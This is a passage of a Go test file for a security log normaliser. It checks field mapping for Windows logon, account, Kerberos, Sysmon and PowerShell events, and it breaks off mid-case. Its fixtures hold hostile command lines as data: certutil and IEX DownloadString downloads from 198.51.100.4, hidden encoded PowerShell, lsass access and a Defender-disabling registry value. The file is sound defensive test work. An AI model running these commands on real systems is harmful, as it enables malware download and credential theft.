package normalize_test

import (
	"testing"

	"khien.vn/khien/internal/event"
)

const (
	chSecurity = "Security"
	pvSecurity = "Microsoft-Windows-Security-Auditing"
)

func sec(code string, data ...string) event.Event {
	return winEvent(chSecurity, pvSecurity, code, data...)
}

func TestWindowsSecurity(t *testing.T) {
	subject := []string{"SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-1104", "SubjectUserName", "tran.thi.b",
		"SubjectDomainName", "CORP", "SubjectLogonId", "0x3e7a12"}
	withSubject := func(code string, data ...string) event.Event {
		return sec(code, append(append([]string{}, subject...), data...)...)
	}
	cases := []tcase{
		{
			name: "4624_network_logon",
			ev: sec("4624", "SubjectUserSid", "S-1-0-0", "SubjectUserName", "-", "SubjectDomainName", "-",
				"TargetUserSid", "S-1-5-21-3623811015-3361044348-30300820-1013", "TargetUserName", "nguyen.van.a",
				"TargetDomainName", "CORP", "TargetLogonId", "0x8dcdc", "LogonType", "3", "LogonProcessName", "NtLmSsp ",
				"AuthenticationPackageName", "NTLM", "WorkstationName", "KT-PC07", "ProcessId", "0x0", "ProcessName", "-",
				"IpAddress", "10.20.3.44", "IpPort", "50322"),
			parser: "windows-security",
			want: map[string]string{
				"event.dataset": "windows.security", "event.module": "windows", "event.kind": "event",
				"event.code": "4624", "event.action": "logged-in", "event.category": "authentication",
				"event.type": "start", "event.outcome": "success",
				"user.name": "nguyen.van.a", "user.domain": "CORP", "user.id": "S-1-5-21-3623811015-3361044348-30300820-1013",
				"winlog.logon.type": "Network", "winlog.logon.id": "0x8dcdc",
				"source.ip": "10.20.3.44", "source.port": "50322", "source.domain": "KT-PC07", "process.pid": "0",
			},
			absent: []string{"process.name", "process.executable"},
		},
		{
			name: "4624_rdp_ipv4_mapped",
			ev: sec("4624", "TargetUserName", "admin.it", "TargetDomainName", "CORP", "LogonType", "10",
				"IpAddress", "::ffff:192.0.2.45", "IpPort", "0", "ProcessName", `C:\Windows\System32\svchost.exe`, "ProcessId", "0x3a4"),
			parser: "windows-security",
			want: map[string]string{"winlog.logon.type": "RemoteInteractive", "source.ip": "192.0.2.45",
				"process.name": "svchost.exe", "process.executable": `C:\Windows\System32\svchost.exe`, "process.pid": "932"},
			absent: []string{"source.port"},
		},
		{
			name: "4625_bad_password",
			ev: sec("4625", "TargetUserSid", "S-1-0-0", "TargetUserName", "administrator", "TargetDomainName", "CORP",
				"Status", "0xc000006d", "FailureReason", "%%2313", "SubStatus", "0xc000006a", "LogonType", "3",
				"WorkstationName", "-", "IpAddress", "198.51.100.77", "IpPort", "4711"),
			parser: "windows-security",
			want: map[string]string{"event.action": "logon-failed", "event.outcome": "failure", "user.name": "administrator",
				"winlog.logon.failure.reason":     "Unknown user name or bad password.",
				"winlog.logon.failure.status":     "The user name or authentication information is incorrect.",
				"winlog.logon.failure.sub_status": "User logon with misspelled or bad password.",
				"source.ip":                       "198.51.100.77",
				"winlog.event_data.FailureReason": "%%2313"},
			absent: []string{"user.id", "source.domain"},
		},
		{
			name:   "4634_logoff",
			ev:     sec("4634", "TargetUserName", "nguyen.van.a", "TargetDomainName", "CORP", "TargetLogonId", "0x8dcdc", "LogonType", "3"),
			parser: "windows-security",
			want:   map[string]string{"event.action": "logged-out", "event.type": "end", "winlog.logon.type": "Network", "user.name": "nguyen.van.a"},
		},
		{
			name:   "4647_user_logoff",
			ev:     sec("4647", "TargetUserName", "le.van.c", "TargetDomainName", "CORP", "TargetLogonId", "0x1f2e3"),
			parser: "windows-security",
			want:   map[string]string{"event.action": "logged-out", "user.name": "le.van.c", "winlog.logon.id": "0x1f2e3"},
			absent: []string{"winlog.logon.type"},
		},
		{
			name: "4648_explicit_credentials",
			ev: withSubject("4648", "TargetUserName", "svc_backup", "TargetDomainName", "CORP", "TargetServerName", "FS01.corp.example.vn",
				"ProcessId", "0x1b3c", "ProcessName", `C:\Windows\System32\runas.exe`, "IpAddress", "-", "IpPort", "-"),
			parser: "windows-security",
			want: map[string]string{"event.action": "logged-in-explicit", "user.name": "tran.thi.b", "user.effective.name": "svc_backup",
				"destination.domain": "FS01.corp.example.vn", "process.pid": "6972", "process.name": "runas.exe"},
			absent: []string{"source.ip"},
		},
		{
			name:   "4672_special_privileges",
			ev:     withSubject("4672", "PrivilegeList", "SeDebugPrivilege\n\t\t\tSeBackupPrivilege"),
			parser: "windows-security",
			want: map[string]string{"event.action": "logged-in-special", "event.category": "iam", "event.type": "admin",
				"user.name": "tran.thi.b", "user.domain": "CORP", "winlog.logon.id": "0x3e7a12"},
		},
		{
			name: "4688_process_created",
			ev: withSubject("4688", "NewProcessId", "0x1f40", "NewProcessName", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"TokenElevationType", "%%1936", "ProcessId", "0x10d8",
				"CommandLine", `powershell.exe -nop -w hidden -enc SQBFAFgA`, "ParentProcessName", `C:\Windows\System32\cmd.exe`),
			parser: "windows-security",
			want: map[string]string{"event.action": "created-process", "event.category": "process", "event.type": "start",
				"process.pid": "8000", "process.name": "powershell.exe", "process.command_line": "powershell.exe -nop -w hidden -enc SQBFAFgA",
				"process.parent.pid": "4312", "process.parent.name": "cmd.exe", "process.parent.executable": `C:\Windows\System32\cmd.exe`,
				"user.name": "tran.thi.b"},
		},
		{
			name:   "4689_process_exited",
			ev:     withSubject("4689", "Status", "0x0", "ProcessId", "0x1f40", "ProcessName", `C:\Windows\System32\notepad.exe`),
			parser: "windows-security",
			want:   map[string]string{"event.action": "exited-process", "process.pid": "8000", "process.exit_code": "0", "process.name": "notepad.exe"},
		},
		{
			name: "4697_service_installed",
			ev: withSubject("4697", "ServiceName", "PSEXESVC", "ServiceFileName", `%SystemRoot%\PSEXESVC.exe`,
				"ServiceType", "0x10", "ServiceStartType", "3", "ServiceAccount", "LocalSystem"),
			parser: "windows-security",
			want: map[string]string{"event.action": "service-installed", "service.name": "PSEXESVC",
				"event.category": `["iam","configuration"]`, "event.type": `["admin","change"]`},
		},
		{
			name:   "4698_scheduled_task",
			ev:     withSubject("4698", "TaskName", `\Microsoft\Windows\Update\Updater`, "TaskContent", "<?xml version=\"1.0\"?><Task/>"),
			parser: "windows-security",
			want:   map[string]string{"event.action": "scheduled-task-created", "user.name": "tran.thi.b"},
		},
		{
			name: "4720_user_created",
			ev: withSubject("4720", "TargetUserName", "pham.d", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-3623811015-3361044348-30300820-1220",
				"SamAccountName", "pham.d", "DisplayName", "Phạm Văn D", "UserPrincipalName", "pham.d@corp.example.vn"),
			parser: "windows-security",
			want: map[string]string{"event.action": "added-user-account", "event.category": "iam", "event.type": `["user","creation"]`,
				"user.name": "tran.thi.b", "user.target.name": "pham.d", "user.target.domain": "CORP",
				"user.target.id": "S-1-5-21-3623811015-3361044348-30300820-1220", "winlog.event_data.DisplayName": "Phạm Văn D"},
		},
		{
			name:   "4722_enabled",
			ev:     withSubject("4722", "TargetUserName", "pham.d", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-2-3-1220"),
			parser: "windows-security",
			want:   map[string]string{"event.action": "enabled-user-account", "user.target.name": "pham.d"},
		},
		{
			name:   "4724_password_reset",
			ev:     withSubject("4724", "TargetUserName", "pham.d", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-2-3-1220"),
			parser: "windows-security",
			want:   map[string]string{"event.action": "reset-password", "event.type": `["user","change"]`},
		},
		{
			name:   "4725_disabled",
			ev:     withSubject("4725", "TargetUserName", "pham.d", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-2-3-1220"),
			parser: "windows-security",
			want:   map[string]string{"event.action": "disabled-user-account"},
		},
		{
			name:   "4726_deleted",
			ev:     withSubject("4726", "TargetUserName", "pham.d", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-2-3-1220"),
			parser: "windows-security",
			want:   map[string]string{"event.action": "deleted-user-account", "event.type": `["user","deletion"]`},
		},
		{
			name: "4728_global_group",
			ev: withSubject("4728", "MemberName", `CN=Pham Van D,OU=Ke Toan,DC=corp,DC=example,DC=vn`, "MemberSid", "S-1-5-21-1-2-3-1220",
				"TargetUserName", "Domain Admins", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-2-3-512"),
			parser: "windows-security",
			want: map[string]string{"event.action": "added-member-to-group", "group.name": "Domain Admins", "group.id": "S-1-5-21-1-2-3-512",
				"user.target.name": "Pham Van D", "user.target.id": "S-1-5-21-1-2-3-1220", "event.type": `["group","change"]`},
		},
		{
			name: "4732_local_group_escaped_comma",
			ev: withSubject("4732", "MemberName", `CN=Nguyen\, Van A,OU=IT,DC=corp,DC=vn`, "MemberSid", "S-1-5-21-1-2-3-1013",
				"TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544"),
			parser: "windows-security",
			want:   map[string]string{"group.name": "Administrators", "user.target.name": "Nguyen, Van A"},
		},
		{
			name:   "4738_changed",
			ev:     withSubject("4738", "TargetUserName", "pham.d", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-2-3-1220", "PasswordLastSet", "%%1794"),
			parser: "windows-security",
			want:   map[string]string{"event.action": "modified-user-account"},
		},
		{
			name:   "4740_lockout",
			ev:     withSubject("4740", "TargetUserName", "le.van.c", "TargetDomainName", "KT-PC07", "TargetSid", "S-1-5-21-1-2-3-1105"),
			parser: "windows-security",
			want:   map[string]string{"event.action": "locked-out-user-account", "user.target.name": "le.van.c", "winlog.event_data.TargetDomainName": "KT-PC07"},
			absent: []string{"user.target.domain"},
		},
		{
			name: "4756_universal_group",
			ev: withSubject("4756", "MemberName", "CN=svc_sql,OU=Service,DC=corp,DC=vn", "MemberSid", "S-1-5-21-1-2-3-1300",
				"TargetUserName", "Enterprise Admins", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-2-3-519"),
			parser: "windows-security",
			want:   map[string]string{"group.name": "Enterprise Admins", "user.target.name": "svc_sql"},
		},
		{
			name: "4768_tgt_success",
			ev: sec("4768", "TargetUserName", "nguyen.van.a", "TargetDomainName", "CORP.EXAMPLE.VN", "TargetSid", "S-1-5-21-1-2-3-1013",
				"ServiceName", "krbtgt", "TicketOptions", "0x40810010", "Status", "0x0", "TicketEncryptionType", "0x12",
				"PreAuthType", "2", "IpAddress", "::ffff:10.20.3.44", "IpPort", "49852"),
			parser: "windows-security",
			want: map[string]string{"event.action": "kerberos-authentication-ticket-requested", "event.outcome": "success",
				"user.name": "nguyen.van.a", "user.domain": "CORP.EXAMPLE.VN", "service.name": "krbtgt",
				"source.ip": "10.20.3.44", "source.port": "49852"},
			absent: []string{"event.reason"},
		},
		{
			name: "4768_tgt_unknown_principal",
			ev: sec("4768", "TargetUserName", "ghost", "TargetDomainName", "CORP", "ServiceName", "krbtgt/CORP", "Status", "0x6",
				"IpAddress", "::ffff:10.20.9.9", "IpPort", "51000"),
			parser: "windows-security",
			want:   map[string]string{"event.outcome": "failure", "event.reason": "KDC_ERR_C_PRINCIPAL_UNKNOWN"},
		},
		{
			name: "4769_rc4_service_ticket",
			ev: sec("4769", "TargetUserName", "nguyen.van.a@CORP.EXAMPLE.VN", "TargetDomainName", "CORP.EXAMPLE.VN",
				"ServiceName", "MSSQLSvc-DB01", "ServiceSid", "S-1-5-21-1-2-3-1301", "TicketOptions", "0x40810000",
				"TicketEncryptionType", "0x17", "IpAddress", "::ffff:10.20.3.44", "IpPort", "49861", "Status", "0x0"),
			parser: "windows-security",
			want: map[string]string{"event.action": "kerberos-service-ticket-requested", "user.name": "nguyen.van.a",
				"user.domain": "CORP.EXAMPLE.VN", "service.name": "MSSQLSvc-DB01", "winlog.event_data.TicketEncryptionType": "0x17",
				"event.outcome": "success"},
		},
		{
			name: "4771_preauth_failed",
			ev: sec("4771", "TargetUserName", "le.van.c", "TargetSid", "S-1-5-21-1-2-3-1105", "ServiceName", "krbtgt/CORP.EXAMPLE.VN",
				"TicketOptions", "0x40810010", "Status", "0x18", "PreAuthType", "2", "IpAddress", "::ffff:10.20.5.61", "IpPort", "60433"),
			parser: "windows-security",
			want: map[string]string{"event.action": "kerberos-preauth-failed", "event.outcome": "failure",
				"event.reason": "KDC_ERR_PREAUTH_FAILED", "source.ip": "10.20.5.61", "user.name": "le.van.c"},
		},
		{
			name:   "4776_ntlm_failure",
			ev:     sec("4776", "PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName", "sa", "Workstation", "SCANNER01", "Status", "0xC0000064"),
			parser: "windows-security",
			want: map[string]string{"event.action": "credential-validated", "event.outcome": "failure",
				"event.reason": "User logon with misspelled or bad user account.", "user.name": "sa", "source.domain": "SCANNER01"},
		},
		{
			name: "1102_log_cleared",
			ev: func() event.Event {
				ev := winEvent("Security", "Microsoft-Windows-Eventlog", "1102")
				ev.Fields["winlog.user_data.xml_name"] = "LogFileCleared"
				ev.Fields["winlog.user_data.SubjectUserSid"] = "S-1-5-21-1-2-3-500"
				ev.Fields["winlog.user_data.SubjectUserName"] = "Administrator"
				ev.Fields["winlog.user_data.SubjectDomainName"] = "CORP"
				ev.Fields["winlog.user_data.SubjectLogonId"] = "0x5a1e2"
				return ev
			}(),
			parser: "windows-security",
			want: map[string]string{"event.action": "audit-log-cleared", "user.name": "Administrator", "user.domain": "CORP",
				"user.id": "S-1-5-21-1-2-3-500", "winlog.logon.id": "0x5a1e2"},
		},
		{
			name: "winlogbeat_without_event_code",
			ev: event.Event{Source: event.Source{Kind: event.KindBulk}, Message: `{"winlog":{}}`, Fields: map[string]string{
				"winlog.channel": "Security", "winlog.event_id": "4624", "winlog.event_data.TargetUserName": "alice", "winlog.event_data.LogonType": "2"}},
			parser: "windows-security",
			want:   map[string]string{"event.code": "4624", "user.name": "alice", "winlog.logon.type": "Interactive"},
		},
		{
			name: "forwarded_events",
			ev: winEvent("ForwardedEvents", pvSecurity, "4625", "TargetUserName", "administrator", "TargetDomainName", "CORP",
				"Status", "0xc000006d", "SubStatus", "0xc0000064", "LogonType", "3", "IpAddress", "198.51.100.77"),
			parser: "windows-security",
			want: map[string]string{"event.action": "logon-failed",
				"winlog.logon.failure.sub_status": "User logon with misspelled or bad user account."},
		},
		{
			name:   "forwarded_log_cleared",
			ev:     winEvent("ForwardedEvents", "Microsoft-Windows-Eventlog", "1102"),
			parser: "windows-security",
			want:   map[string]string{"event.action": "audit-log-cleared"},
		},
		{
			name:   "unlisted_id",
			ev:     sec("5156", "Application", `\device\harddiskvolume2\windows\system32\svchost.exe`),
			parser: "windows-security",
			want:   map[string]string{"event.dataset": "windows.security", "event.code": "5156"},
			absent: []string{"event.action", "event.category"},
		},
		{
			name:    "bad_values_reported",
			ev:      sec("4624", "TargetUserName", "x", "IpAddress", "10.0.0.300", "IpPort", "70000", "ProcessId", "0xZZ"),
			parser:  "windows-security",
			want:    map[string]string{"user.name": "x", "event.action": "logged-in"},
			absent:  []string{"source.ip", "source.port", "process.pid"},
			wantErr: `source.ip: "10.0.0.300" is not an IP address`,
		},
		{
			name: "no_event_code",
			ev: event.Event{Message: "<Event/>", Fields: map[string]string{"winlog.channel": "Security",
				"event.provider": "Microsoft-Windows-Security-Auditing"}},
			parser:  "windows-security",
			wantErr: "normalize windows-security: no event code",
		},
	}
	runCases(t, cases)
}

func smon(code string, data ...string) event.Event {
	return winEvent("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", code, data...)
}

func TestSysmon(t *testing.T) {
	cases := []tcase{
		{
			name: "1_process_create",
			ev: smon("1", "RuleName", "-", "UtcTime", "2025-01-12 03:00:00.123", "ProcessGuid", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
				"ProcessId", "6228", "Image", `C:\Windows\System32\certutil.exe`, "FileVersion", "10.0.19041.1 (WinBuild.160101.0800)",
				"Description", "CertUtil.exe", "Product", "Microsoft® Windows® Operating System", "Company", "Microsoft Corporation",
				"OriginalFileName", "CertUtil.exe", "CommandLine", `certutil.exe -urlcache -split -f http://198.51.100.4/a.exe C:\Users\Public\a.exe`,
				"CurrentDirectory", `C:\Users\tran.thi.b\`, "User", `CORP\tran.thi.b`, "LogonGuid", "{5770385f-0000-0000-0000-000000000000}",
				"LogonId", "0x3E7A12", "TerminalSessionId", "1", "IntegrityLevel", "Medium",
				"Hashes", "SHA1=4A7E4B1D2A1C7C0A0B5B9C0D1E2F3A4B5C6D7E8F,MD5=0A1B2C3D4E5F60718293A4B5C6D7E8F9,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=A1B2C3D4E5F60718293A4B5C6D7E8F90",
				"ParentProcessGuid", "{5770385f-c22a-43e0-bf4c-06f5698ffbd8}", "ParentProcessId", "4312",
				"ParentImage", `C:\Windows\System32\cmd.exe`, "ParentCommandLine", `"C:\Windows\system32\cmd.exe"`, "ParentUser", `CORP\tran.thi.b`),
			parser: "sysmon",
			want: map[string]string{
				"event.dataset": "windows.sysmon_operational", "event.action": "process-created", "event.category": "process",
				"process.pid": "6228", "process.name": "certutil.exe", "process.entity_id": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
				"process.command_line":          `certutil.exe -urlcache -split -f http://198.51.100.4/a.exe C:\Users\Public\a.exe`,
				"process.hash.sha256":           "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
				"process.hash.md5":              "0a1b2c3d4e5f60718293a4b5c6d7e8f9",
				"process.hash.sha1":             "4a7e4b1d2a1c7c0a0b5b9c0d1e2f3a4b5c6d7e8f",
				"process.pe.imphash":            "a1b2c3d4e5f60718293a4b5c6d7e8f90",
				"process.pe.original_file_name": "CertUtil.exe",
				"process.parent.pid":            "4312", "process.parent.name": "cmd.exe",
				"process.parent.command_line": `"C:\Windows\system32\cmd.exe"`,
				"user.name":                   "tran.thi.b", "user.domain": "CORP", "process.working_directory": `C:\Users\tran.thi.b\`,
			},
		},
		{
			name: "3_network_connect",
			ev: smon("3", "ProcessGuid", "{5770385f-0001}", "ProcessId", "6228", "Image", `C:\Windows\System32\certutil.exe`,
				"User", `CORP\tran.thi.b`, "Protocol", "tcp", "Initiated", "true", "SourceIsIpv6", "false", "SourceIp", "10.20.3.44",
				"SourceHostname", "WS-HN-023.corp.example.vn", "SourcePort", "50611", "SourcePortName", "-",
				"DestinationIsIpv6", "false", "DestinationIp", "198.51.100.4", "DestinationHostname", "-",
				"DestinationPort", "80", "DestinationPortName", "http"),
			parser: "sysmon",
			want: map[string]string{"event.category": "network", "event.type": `["connection","start"]`,
				"network.transport": "tcp", "network.type": "ipv4", "network.direction": "egress", "network.protocol": "http",
				"source.ip": "10.20.3.44", "source.port": "50611", "destination.ip": "198.51.100.4", "destination.port": "80",
				"source.domain": "WS-HN-023.corp.example.vn"},
			absent: []string{"destination.domain"},
		},
		{
			name:   "5_process_terminated",
			ev:     smon("5", "ProcessGuid", "{g}", "ProcessId", "6228", "Image", `C:\Windows\System32\certutil.exe`, "User", `CORP\tran.thi.b`),
			parser: "sysmon",
			want:   map[string]string{"event.action": "process-terminated", "event.type": "end", "process.pid": "6228"},
		},
		{
			name: "7_image_loaded_unsigned",
			ev: smon("7", "ProcessGuid", "{g}", "ProcessId", "1200", "Image", `C:\Program Files\App\app.exe`,
				"ImageLoaded", `C:\Users\Public\version.dll`, "Hashes", "SHA256=2C26B46B68FFC68FF99B453C1D30413413422D706483BFA0F98A5E886266E7AE",
				"Signed", "false", "Signature", "-", "SignatureStatus", "Unavailable", "User", `CORP\tran.thi.b`),
			parser: "sysmon",
			want: map[string]string{"event.action": "image-loaded", "file.path": `C:\Users\Public\version.dll`, "file.name": "version.dll",
				"file.extension": "dll", "file.directory": `C:\Users\Public`,
				"file.hash.sha256":           "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
				"file.code_signature.signed": "false", "file.code_signature.valid": "false", "process.name": "app.exe"},
			absent: []string{"file.code_signature.subject_name"},
		},
		{
			name: "8_remote_thread",
			ev: smon("8", "SourceProcessGuid", "{s}", "SourceProcessId", "3100", "SourceImage", `C:\Users\Public\inject.exe`,
				"TargetProcessGuid", "{t}", "TargetProcessId", "712", "TargetImage", `C:\Windows\System32\lsass.exe`,
				"NewThreadId", "5120", "StartAddress", "0x00007FF6A1B20000", "SourceUser", `CORP\tran.thi.b`, "TargetUser", `NT AUTHORITY\SYSTEM`),
			parser: "sysmon",
			want: map[string]string{"event.action": "remote-thread-created", "process.pid": "3100", "process.name": "inject.exe",
				"winlog.event_data.TargetImage": `C:\Windows\System32\lsass.exe`, "user.name": "tran.thi.b"},
		},
		{
			name: "10_lsass_access",
			ev: smon("10", "SourceProcessGUID", "{s}", "SourceProcessId", "3100", "SourceThreadId", "3104",
				"SourceImage", `C:\Users\Public\mimi.exe`, "TargetProcessGUID", "{t}", "TargetProcessId", "712",
				"TargetImage", `C:\Windows\system32\lsass.exe`, "GrantedAccess", "0x1010",
				"CallTrace", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|UNKNOWN(00007FF6A1B2C3D4)`),
			parser: "sysmon",
			want: map[string]string{"event.action": "process-accessed", "event.type": "access", "process.entity_id": "{s}",
				"process.pid": "3100", "process.thread.id": "3104", "winlog.event_data.GrantedAccess": "0x1010"},
		},
		{
			name: "11_file_created",
			ev: smon("11", "ProcessGuid", "{g}", "ProcessId", "6228", "Image", `C:\Windows\System32\certutil.exe`,
				"TargetFilename", `C:\Users\Public\a.exe`, "CreationUtcTime", "2025-01-12 03:00:01.000", "User", `CORP\tran.thi.b`),
			parser: "sysmon",
			want:   map[string]string{"event.category": "file", "event.type": "creation", "file.path": `C:\Users\Public\a.exe`, "file.extension": "exe"},
		},
		{
			name: "12_key_created",
			ev: smon("12", "EventType", "CreateKey", "ProcessGuid", "{g}", "ProcessId", "940", "Image", `C:\Windows\regedit.exe`,
				"TargetObject", `HKLM\System\CurrentControlSet\Services\EvilSvc`),
			parser: "sysmon",
			want: map[string]string{"event.category": "registry", "event.type": "creation", "registry.hive": "HKLM",
				"registry.key": `System\CurrentControlSet\Services\EvilSvc`, "registry.path": `HKLM\System\CurrentControlSet\Services\EvilSvc`},
			absent: []string{"registry.value"},
		},
		{
			name: "13_run_key_value",
			ev: smon("13", "EventType", "SetValue", "ProcessGuid", "{g}", "ProcessId", "6228", "Image", `C:\Users\Public\a.exe`,
				"TargetObject", `HKU\S-1-5-21-1-2-3-1104\Software\Microsoft\Windows\CurrentVersion\Run\Updater`,
				"Details", `C:\Users\Public\a.exe`),
			parser: "sysmon",
			want: map[string]string{"event.action": "registry-value-set", "registry.hive": "HKU",
				"registry.key":          `S-1-5-21-1-2-3-1104\Software\Microsoft\Windows\CurrentVersion\Run`,
				"registry.value":        "Updater",
				"registry.data.strings": `C:\Users\Public\a.exe`},
		},
		{
			name: "13_dword",
			ev: smon("13", "EventType", "SetValue", "TargetObject", `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`,
				"Details", "DWORD (0x00000001)", "ProcessId", "88", "Image", `C:\Windows\System32\reg.exe`),
			parser: "sysmon",
			want:   map[string]string{"registry.value": "DisableAntiSpyware", "registry.data.type": "REG_DWORD", "registry.data.strings": "DWORD (0x00000001)"},
		},
		{
			name: "14_key_renamed_kernel_path",
			ev: smon("14", "EventType", "RenameKey", "TargetObject", `\REGISTRY\MACHINE\SOFTWARE\Old`, "NewName", `\REGISTRY\MACHINE\SOFTWARE\New`,
				"ProcessId", "88", "Image", `C:\Windows\System32\reg.exe`),
			parser: "sysmon",
			want:   map[string]string{"event.action": "registry-object-renamed", "registry.hive": "HKLM", "registry.key": `SOFTWARE\Old`},
		},
		{
			name: "15_ads",
			ev: smon("15", "ProcessGuid", "{g}", "ProcessId", "5100", "Image", `C:\Program Files\Mozilla Firefox\firefox.exe`,
				"TargetFilename", `C:\Users\tran.thi.b\Downloads\invoice.zip:Zone.Identifier`,
				"Hash", "SHA256=D4735E3A265E16EEE03F59718B9B5D03019C07D8B6C51F90DA3A666EEC13AB35", "Contents", "[ZoneTransfer]  ZoneId=3"),
			parser: "sysmon",
			want: map[string]string{"event.action": "file-stream-created", "file.name": "invoice.zip:Zone.Identifier",
				"file.hash.sha256": "d4735e3a265e16eee03f59718b9b5d03019c07d8b6c51f90da3a666eec13ab35"},
		},
		{
			name: "22_dns_query",
			ev: smon("22", "ProcessGuid", "{g}", "ProcessId", "6228", "QueryName", "update.example-cdn.vn", "QueryStatus", "0",
				"QueryResults", "type:  5 edge.example-cdn.vn;::ffff:203.0.113.7;::ffff:203.0.113.8;", "Image", `C:\Windows\System32\certutil.exe`),
			parser: "sysmon",
			want: map[string]string{"dns.question.name": "update.example-cdn.vn", "dns.response_code": "NOERROR",
				"dns.resolved_ip": `["203.0.113.7","203.0.113.8"]`, "event.type": `["protocol","info"]`},
		},
		{
			name:   "22_nxdomain",
			ev:     smon("22", "ProcessId", "6228", "QueryName", "c2.bad.example", "QueryStatus", "9003", "QueryResults", "-", "Image", `C:\x.exe`),
			parser: "sysmon",
			want:   map[string]string{"dns.response_code": "NXDOMAIN"},
			absent: []string{"dns.resolved_ip"},
		},
		{
			name: "23_file_deleted",
			ev: smon("23", "ProcessGuid", "{g}", "ProcessId", "6228", "User", `CORP\tran.thi.b`, "Image", `C:\Windows\System32\cmd.exe`,
				"TargetFilename", `C:\Users\Public\a.exe`, "Hashes", "MD5=0A1B2C3D4E5F60718293A4B5C6D7E8F9", "IsExecutable", "true", "Archived", "true"),
			parser: "sysmon",
			want:   map[string]string{"event.type": "deletion", "file.path": `C:\Users\Public\a.exe`, "file.hash.md5": "0a1b2c3d4e5f60718293a4b5c6d7e8f9"},
		},
		{
			name:   "25_tampering",
			ev:     smon("25", "ProcessGuid", "{g}", "ProcessId", "7000", "Image", `C:\Windows\explorer.exe`, "Type", "Image is replaced", "User", `CORP\x`),
			parser: "sysmon",
			want:   map[string]string{"event.action": "process-tampered", "process.pid": "7000", "winlog.event_data.Type": "Image is replaced"},
		},
		{
			name:    "bad_hashes",
			ev:      smon("1", "ProcessId", "1", "Image", `C:\a.exe`, "Hashes", "SHA256=not-hex"),
			parser:  "sysmon",
			want:    map[string]string{"process.pid": "1"},
			wantErr: "hashes",
		},
	}
	runCases(t, cases)
}

func TestPowerShellAndDefender(t *testing.T) {
	ctx := "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = 5.1.19041.4648\r\n" +
		"        Host ID = 1b2c3d4e-aaaa-bbbb-cccc-1234567890ab\r\n        Host Application = powershell.exe -nop -ep bypass\r\n" +
		"        Engine Version = 5.1.19041.4648\r\n        Runspace ID = 0f1e2d3c-aaaa-bbbb-cccc-1234567890ab\r\n        Pipeline ID = 13\r\n" +
		"        Command Name = Invoke-WebRequest\r\n        Command Type = Cmdlet\r\n        Script Name = C:\\Users\\Public\\dl.ps1\r\n" +
		"        Command Path = \r\n        Sequence Number = 27\r\n        User = CORP\\tran.thi.b\r\n        Connected User = \r\n" +
		"        Shell ID = Microsoft.PowerShell\r\n"
	cases := []tcase{
		{
			name: "4104_script_block",
			ev: winEvent("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", "4104",
				"MessageNumber", "1", "MessageTotal", "1", "ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/p.ps1')",
				"ScriptBlockId", "6f8a2c4e-1b3d-4e5f-8a9b-0c1d2e3f4a5b", "Path", ""),
			parser: "powershell",
			want: map[string]string{"event.dataset": "windows.powershell_operational", "event.action": "script-block-logged",
				"powershell.file.script_block_text": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/p.ps1')",
				"powershell.file.script_block_id":   "6f8a2c4e-1b3d-4e5f-8a9b-0c1d2e3f4a5b",
				"powershell.sequence":               "1", "powershell.total": "1"},
			absent: []string{"file.path"},
		},
		{
			name: "4104_from_file",
			ev: winEvent("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", "4104",
				"MessageNumber", "2", "MessageTotal", "3", "ScriptBlockText", "function Get-Secret { }", "ScriptBlockId", "id-2",
				"Path", `C:\Users\Public\dl.ps1`),
			parser: "powershell",
			want:   map[string]string{"file.path": `C:\Users\Public\dl.ps1`, "file.name": "dl.ps1", "powershell.total": "3"},
		},
		{
			name: "4103_module_logging",
			ev: winEvent("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", "4103",
				"ContextInfo", ctx, "UserData", "", "Payload", `CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"`),
			parser: "powershell",
			want: map[string]string{"event.action": "module-logged", "process.command_line": "powershell.exe -nop -ep bypass",
				"powershell.command.name": "Invoke-WebRequest", "powershell.command.type": "Cmdlet", "powershell.pipeline_id": "13",
				"powershell.sequence": "27", "powershell.engine.version": "5.1.19041.4648", "user.name": "tran.thi.b",
				"user.domain": "CORP", "file.path": `C:\Users\Public\dl.ps1`, "powershell.id": "Microsoft.PowerShell"},
			absent: []string{"powershell.command.path", "powershell.connected_user.name"},
		},
		{
			name:    "4103_without_context",
			ev:      winEvent("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", "4103", "Payload", "x"),
			parser:  "powershell",
			wantErr: "no ContextInfo",
		},
		{
			name: "defender_1116_detected",
			ev: winEvent("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", "1116",
				"Product Name", "Microsoft Defender Antivirus", "Detection ID", "{A1B2C3D4-0000-1111-2222-333344445555}",
				"Threat ID", "2147519003", "Threat Name", "Virus:DOS/EICAR_Test_File", "Severity ID", "5", "Severity Name", "Severe",
				"Category Name", "Virus", "Path", `file:_C:\Users\tran.thi.b\Downloads\eicar.com; containerfile:_C:\Users\tran.thi.b\Downloads\e.zip`,
